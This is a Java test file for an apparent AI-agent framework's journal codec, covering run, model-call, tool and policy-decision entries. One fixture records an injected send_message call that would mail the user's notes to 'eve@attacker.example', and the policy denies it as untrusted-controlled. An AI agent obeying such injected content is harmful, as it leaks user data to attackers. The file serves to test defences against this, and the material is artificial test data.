package dev.mainstay.journal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.mainstay.cost.Cost;
import dev.mainstay.json.Json;
import dev.mainstay.model.Failover;
import dev.mainstay.model.ModelResponse;
import dev.mainstay.model.RawBlock;
import dev.mainstay.model.RedactedThinkingBlock;
import dev.mainstay.model.StopReason;
import dev.mainstay.model.TextBlock;
import dev.mainstay.model.ThinkingBlock;
import dev.mainstay.model.ToolUseBlock;
import dev.mainstay.journal.Compaction;
import dev.mainstay.model.Usage;
import dev.mainstay.policy.Verdict;
import dev.mainstay.run.RunLimits;
import dev.mainstay.run.RunRequest;
import dev.mainstay.run.RunStopReason;
import dev.mainstay.tool.ToolResult;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/**
 * The journal's encoding. Each fixture under {@code journal/v1/} to {@code journal/v5/} is frozen: it is what that
 * version wrote, and every later Mainstay must read it to the same entry. A new version adds a directory; it never edits an old one.
 */
class JournalCodecTest {
    private static final Instant AT = Instant.parse("2026-12-06T10:15:30.250Z");
    private static final ObjectNode INPUT = Json.parseObject("{\"title\":\"Milk\",\"body\":\"Buy 2 litres\"}");

    static JournalEntry expected(String name) {
        return switch (name) {
            case "run_opened" -> new RunOpened(new RunRequest("run_1", "acme", "ada", "Save a note about milk"),
                    "reference", "claude-sonnet-4-5", new RunLimits(12, 1024, Duration.ofSeconds(120), 1),
                    AT.plusSeconds(120), AT);
            case "run_opened_in_conversation" -> new RunOpened(new RunRequest("run_2", "acme", "ada",
                    "And what about Porto?", "conv_1", List.of(
                            dev.mainstay.model.Message.user("What's the weather in Lisbon?"),
                            dev.mainstay.model.Message.assistant(List.of(new TextBlock("Lisbon: 18 °C, sunny."))))),
                    "reference", "claude-sonnet-4-5", new RunLimits(12, 1024, Duration.ofSeconds(120), 1),
                    AT.plusSeconds(120), AT);
            case "model_call" -> new ModelStep(1, "claude-sonnet-4-5-20250929", 1, Optional.of(new ModelResponse(
                    "msg_1", "claude-sonnet-4-5-20250929", List.of(
                            new ThinkingBlock("The user wants a note.", "sig-abc"),
                            new RedactedThinkingBlock("ENCRYPTED"),
                            new TextBlock("Saving it."),
                            new RawBlock("server_tool_use", Json.parseObject(
                                    "{\"type\":\"server_tool_use\",\"id\":\"srvtoolu_1\",\"name\":\"web_search\","
                                            + "\"input\":{\"query\":\"milk\"}}")),
                            new ToolUseBlock("toolu_1", "save_note", INPUT)),
                    StopReason.TOOL_USE, new Usage(1200, 80, 1030, 2060), "req_1")),
                    new Usage(1200, 80, 1030, 2060), Cost.usd(new BigDecimal("0.00851475")),
                    List.of(new Failover("anthropic:claude-opus-4-5", "claude-opus-4-5", "overloaded_error",
                            "Overloaded")),
                    AT, Duration.ofMillis(842), Optional.empty());
            case "model_call_failed_unpriced" -> new ModelStep(2, "my-custom-model", 3, Optional.empty(), Usage.ZERO,
                    new Cost(new BigDecimal("0.00100000"), Set.of("my-custom-model")), List.of(), AT,
                    Duration.ofMillis(5), Optional.of(new StepError("overloaded_error", "Overloaded")));
            case "model_call_billed" -> {
                var answer = new Usage(800, 60, 500, 1500, 4000, 2, 1);
                var brokenOff = new Usage(1200, 35, 0, 0);
                yield new ModelStep(4, "claude-sonnet-5-5", 7, Optional.of(new ModelResponse("msg_9",
                        "claude-sonnet-5-5", List.of(new TextBlock("Porto: 16 °C.")), StopReason.END_TURN, answer,
                        "req_9")), brokenOff.plus(answer), Cost.usd(new BigDecimal("0.0326")), List.of(), AT,
                        Duration.ofMillis(2310), Optional.empty(), List.of(
                                new dev.mainstay.cost.BilledAttempt("anthropic:claude-sonnet-5-5", "claude-sonnet-5-5",
                                        brokenOff, Cost.usd(new BigDecimal("0.00275"))),
                                new dev.mainstay.cost.BilledAttempt("anthropic:claude-sonnet-5-5", "claude-sonnet-5-5",
                                        answer, Cost.usd(new BigDecimal("0.02985")))),
                        "anthropic-2026-12-01");
            }
            case "model_call_routed" -> new ModelStep(2, "claude-haiku-4-5", 3, Optional.of(new ModelResponse(
                    "msg_2", "claude-haiku-4-5", List.of(new TextBlock("Found it.")), StopReason.END_TURN,
                    new Usage(300, 20, 0, 0), "req_2")), new Usage(300, 20, 0, 0),
                    Cost.usd(new BigDecimal("0.00040000")), List.of(), AT, Duration.ofMillis(120), Optional.empty(),
                    List.of(), "anthropic-2026-12-01", "tool=web_search");
            case "model_call_cache_hit" -> new ModelStep(3, "claude-haiku-4-5", 1, Optional.of(new ModelResponse(
                    "msg_2", "claude-haiku-4-5", List.of(new TextBlock("Found it.")), StopReason.END_TURN,
                    new Usage(300, 20, 0, 0), "req_2")), Usage.ZERO, Cost.ZERO, List.of(), AT, Duration.ofMillis(1),
                    Optional.empty(), List.of(), "anthropic-2026-12-01", "", true);
            case "run_opened_compacted" -> new RunOpened(new RunRequest("run_3", "acme", "ada",
                    "And tomorrow?", "conv_1", List.of(
                            dev.mainstay.model.Message.user("What's the weather in Lisbon?"),
                            dev.mainstay.model.Message.assistant(List.of(new ToolUseBlock("toolu_9", "get_weather",
                                    Json.parseObject("{\"place\":\"Lisbon\"}")))),
                            new dev.mainstay.model.Message(dev.mainstay.model.Role.USER, List.of(
                                    new dev.mainstay.model.ToolResultBlock("toolu_9", "18 °C, sunny", false))),
                            dev.mainstay.model.Message.assistant(List.of(new TextBlock("Lisbon: 18 °C, sunny."))),
                            dev.mainstay.model.Message.user("And Porto?"),
                            dev.mainstay.model.Message.assistant(List.of(new TextBlock("Porto: 16 °C.")))), true),
                    "reference", "claude-sonnet-4-5", new RunLimits(12, 1024, Duration.ofSeconds(120), 1),
                    AT.plusSeconds(120), AT, Optional.of(new Compaction(Compaction.Policy.SUMMARISE, 0, 4, List.of(
                            dev.mainstay.model.Message.user("Summary of the earlier conversation: Lisbon was 18 °C."),
                            dev.mainstay.model.Message.assistant(List.of(new TextBlock("Understood.")))), 2400, 900,
                            "claude-haiku-4-5", new Usage(400, 30, 0, 0), Cost.usd(new BigDecimal("0.00055")),
                            List.of(new dev.mainstay.cost.BilledAttempt("anthropic:claude-haiku-4-5",
                                    "claude-haiku-4-5", new Usage(400, 30, 0, 0),
                                    Cost.usd(new BigDecimal("0.00055")))))));
            case "tool_intent" -> new ToolIntent(1, "toolu_1", "save_note", INPUT, AT);
            case "tool_call" -> new ToolStep(1, "toolu_1", "save_note", INPUT,
                    ToolResult.ok("Saved note \"Milk\" (id note_1)."), ToolStep.Resolution.RECONCILED, AT,
                    Duration.ofMillis(12), Optional.empty());
            case "run_closed" -> new RunClosed(RunStopReason.BUDGET_EXCEEDED,
                    Optional.of(new StepError("budget_exceeded", "the tenant's daily budget is spent")), AT);
            case "plan_fixed" -> new PlanFixed(java.util.Map.of("save_note", 1, "send_message", 2),
                    "K3J9Q2ZP7W4MHT8X", AT);
            case "policy_decision_allowed" -> new PolicyDecision(2, "toolu_2", "save_note", INPUT,
                    new Verdict.Allow("planned", "the user's task asked for save_note (1 of 1)"), AT);
            case "policy_decision_needs_approval" -> new PolicyDecision(2, "toolu_3", "send_message",
                    Json.parseObject("{\"to\":\"bob@example.org\",\"body\":\"hi\"}"),
                    new Verdict.NeedsApproval("unplanned_side_effect", "the user's task did not ask for send_message,"
                            + " and untrusted content is in the run's context"), AT);
            case "policy_decision_denied" -> new PolicyDecision(2, "toolu_4", "send_message",
                    Json.parseObject("{\"to\":\"eve@attacker.example\",\"body\":\"notes\"}"),
                    new Verdict.Deny("controlled_argument", "argument 'to' of send_message carries a value that"
                            + " appears only in untrusted content", true), AT);
            case "approval_decided" -> new ApprovalDecided("toolu_3", false, "ada", "I never asked for that", AT);
            default -> throw new IllegalArgumentException(name);
        };
    }

    static final String[] CURRENT = {"run_opened", "run_opened_in_conversation", "model_call",
            "model_call_failed_unpriced", "model_call_billed", "model_call_routed", "model_call_cache_hit",
            "run_opened_compacted", "tool_intent", "tool_call", "run_closed", "plan_fixed",
            "policy_decision_allowed", "policy_decision_needs_approval", "policy_decision_denied", "approval_decided"};

    @ParameterizedTest
    @ValueSource(strings = {"run_opened", "model_call", "model_call_failed_unpriced", "tool_intent", "tool_call",
            "run_closed"})
    void everyVersionOneFixtureStillReadsToTheSameEntry(String name) throws IOException {
        assertThat(JournalCodec.decode(fixture("v1/" + name + ".json"))).isEqualTo(expected(name));
    }

    @ParameterizedTest
    @ValueSource(strings = {"run_opened", "run_opened_in_conversation", "model_call", "model_call_failed_unpriced",
            "tool_intent", "tool_call", "run_closed"})
    void everyVersionTwoFixtureStillReadsToTheSameEntry(String name) throws IOException {
        assertThat(JournalCodec.decode(fixture("v2/" + name + ".json"))).isEqualTo(expected(name));
    }

    @ParameterizedTest
    @ValueSource(strings = {"run_opened", "run_opened_in_conversation", "model_call", "model_call_failed_unpriced",
            "tool_intent", "tool_call", "run_closed", "plan_fixed", "policy_decision_allowed",
            "policy_decision_needs_approval", "policy_decision_denied", "approval_decided"})
    void everyVersionThreeFixtureStillReadsToTheSameEntry(String name) throws IOException {
        assertThat(JournalCodec.decode(fixture("v3/" + name + ".json"))).isEqualTo(expected(name));
    }

    @ParameterizedTest
    @ValueSource(strings = {"run_opened", "run_opened_in_conversation", "model_call", "model_call_failed_unpriced",
            "model_call_billed", "tool_intent", "tool_call", "run_closed", "plan_fixed", "policy_decision_allowed",
            "policy_decision_needs_approval", "policy_decision_denied", "approval_decided"})
    void everyVersionFourFixtureStillReadsToTheSameEntry(String name) throws IOException {
        assertThat(JournalCodec.decode(fixture("v4/" + name + ".json"))).isEqualTo(expected(name));
    }

    @ParameterizedTest
    @ValueSource(strings = {"run_opened", "run_opened_in_conversation", "model_call", "model_call_failed_unpriced",
            "model_call_billed", "model_call_routed", "tool_intent", "tool_call", "run_closed", "plan_fixed",
            "policy_decision_allowed", "policy_decision_needs_approval", "policy_decision_denied",
            "approval_decided"})
    void everyVersionFiveFixtureStillReadsToTheSameEntry(String name) throws IOException {
        assertThat(JournalCodec.decode(fixture("v5/" + name + ".json"))).isEqualTo(expected(name));
    }

    @ParameterizedTest
    @ValueSource(strings = {"run_opened", "run_opened_in_conversation", "model_call", "model_call_failed_unpriced",
            "model_call_billed", "model_call_routed", "model_call_cache_hit", "run_opened_compacted", "tool_intent",
            "tool_call", "run_closed", "plan_fixed", "policy_decision_allowed", "policy_decision_needs_approval",
            "policy_decision_denied", "approval_decided"})
    void everyCurrentVersionFixtureReadsToTheSameEntryAndIsWrittenTheSameWay(String name) throws IOException {
        var fixture = fixture("v" + JournalCodec.VERSION + "/" + name + ".json");

        assertThat(JournalCodec.decode(fixture)).isEqualTo(expected(name));
        var exact = Json.mapper().reader()
                .with(com.fasterxml.jackson.databind.DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS);
        assertThat(exact.readTree(JournalCodec.encode(expected(name)))).isEqualTo(exact.readTree(fixture));
    }

    @Test
    void aFailedStepKeepsItsBilledUsageAndWhyEachEndpointWasLeft() {
        var step = new ModelStep(3, "claude-haiku-4-5", 2, Optional.empty(), new Usage(900, 40, 0, 0),
                Cost.usd(new BigDecimal("0.00110000")),
                List.of(new Failover("anthropic:claude-sonnet-4-5", "claude-sonnet-4-5", "rate_limit_error",
                                "HTTP 429 rate_limit_error: slow down", "rate_limited"),
                        new Failover("anthropic:claude-haiku-4-5", "claude-haiku-4-5", "overloaded_error",
                                "stream error event overloaded_error", "content_delivered")),
                AT, Duration.ofMillis(300), Optional.of(new StepError("overloaded_error", "Overloaded")));

        var json = JournalCodec.toJson(step);

        assertThat(json.path("failovers").get(0).path("reason").asText()).isEqualTo("rate_limited");
        assertThat(JournalCodec.fromJson(json)).isEqualTo(step);
    }

    @Test
    void aCacheWriteWithoutItsSplitReadsAsFiveMinuteWrites() {
        var v3 = JournalCodec.decode("{\"v\":3,\"type\":\"model_call\",\"step\":1,\"model\":\"m\","
                + "\"messages_sent\":1,\"usage\":{\"input_tokens\":5,\"output_tokens\":1,"
                + "\"cache_creation_input_tokens\":900,\"cache_read_input_tokens\":0},\"cost_usd\":0,"
                + "\"started_at\":\"2026-12-06T10:15:30.250Z\",\"duration_ms\":1,"
                + "\"error\":{\"code\":\"overloaded_error\",\"message\":\"Overloaded\"}}");

        var usage = ((ModelStep) v3).usage();
        assertThat(usage.cacheWrite5mTokens()).isEqualTo(900);
        assertThat(usage.cacheWrite1hTokens()).isZero();
        assertThat(((ModelStep) v3).billed()).isEmpty();
        assertThat(((ModelStep) v3).priceTable()).isEmpty();
    }

    @Test
    void theRuleThatChoseTheModelRoundTripsAndAnOlderStepReadsAsChosenByNoRule() {
        var routed = (ModelStep) expected("model_call_routed");

        assertThat(JournalCodec.decode(JournalCodec.encode(routed))).isEqualTo(routed);
        assertThat(JournalCodec.toJson(routed).path("route").asText()).isEqualTo("tool=web_search");
        assertThat(JournalCodec.toJson(expected("model_call")).has("route")).isFalse();
        assertThat(((ModelStep) expected("model_call")).route()).isEmpty();
    }

    @Test
    void aCacheHitRoundTripsAndAnOlderStepReadsAsAProviderAnswer() {
        var hit = (ModelStep) expected("model_call_cache_hit");

        assertThat(JournalCodec.decode(JournalCodec.encode(hit))).isEqualTo(hit);
        assertThat(JournalCodec.toJson(hit).path("cache_hit").asBoolean()).isTrue();
        assertThat(JournalCodec.toJson(expected("model_call")).has("cache_hit")).isFalse();
        assertThat(((ModelStep) expected("model_call")).cacheHit()).isFalse();
    }

    @Test
    void aCompactedOpeningKeepsTheWholeHistoryAndStartsFromTheCompactedOne() {
        var opened = (RunOpened) expected("run_opened_compacted");

        var decoded = (RunOpened) JournalCodec.decode(JournalCodec.encode(opened));

        assertThat(decoded).isEqualTo(opened);
        assertThat(decoded.request().history()).hasSize(6);
        assertThat(decoded.request().cacheResponses()).isTrue();
        assertThat(decoded.startingMessages()).extracting(dev.mainstay.model.Message::text).containsExactly(
                "Summary of the earlier conversation: Lisbon was 18 °C.", "Understood.", "And Porto?",
                "Porto: 16 °C.", "And tomorrow?");
        var older = (RunOpened) expected("run_opened_in_conversation");
        assertThat(older.compaction()).isEmpty();
        assertThat(older.request().cacheResponses()).isFalse();
        assertThat(JournalCodec.toJson(older).has("compaction")).isFalse();
        assertThat(JournalCodec.toJson(older).has("cache_responses")).isFalse();
    }

    @Test
    void moneyRoundTripsExactly() {
        var step = expected("model_call");

        var decoded = (ModelStep) JournalCodec.decode(JournalCodec.encode(step));

        assertThat(decoded.cost().usd()).contains(new BigDecimal("0.00851475"));
    }

    @Test
    void aNewerVersionIsRefusedNamingTheUpgrade() {
        var newer = JournalCodec.toJson(expected("run_closed")).put("v", JournalCodec.VERSION + 1).toString();

        assertThatThrownBy(() -> JournalCodec.decode(newer)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("newer").hasMessageContaining("upgrade");
    }

    @Test
    void aStepErrorNeverKeepsASecret() {
        var error = new StepError("authentication_error", "invalid x-api-key sk-ant-" + "api03-abcdefghijklmnop1234");

        assertThat(error.message()).doesNotContain("sk-ant-").contains("[REDACTED:anthropic_key]");
    }

    @Test
    void aVersionTwoReaderWouldBeToldToUpgradeForTheSecurityEntries() {
        var v3 = JournalCodec.toJson(expected("approval_decided"));

        assertThat(v3.path("v").asInt()).isGreaterThanOrEqualTo(3);
        assertThat(JournalCodec.decode(v3.toString())).isEqualTo(expected("approval_decided"));
    }

    @Test
    void aMalformedEntryIsRefusedNamingTheField() {
        assertThatThrownBy(() -> JournalCodec.decode("{\"v\":1,\"type\":\"tool_intent\",\"step\":1}"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("tool_use_id");
        assertThatThrownBy(() -> JournalCodec.decode("not json")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> JournalCodec.decode("{\"v\":1,\"type\":\"gossip\"}"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("gossip");
    }

    private static String fixture(String path) throws IOException {
        try (var in = JournalCodecTest.class.getResourceAsStream("/journal/" + path)) {
            if (in == null) {
                throw new IllegalStateException("no fixture " + path);
            }
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
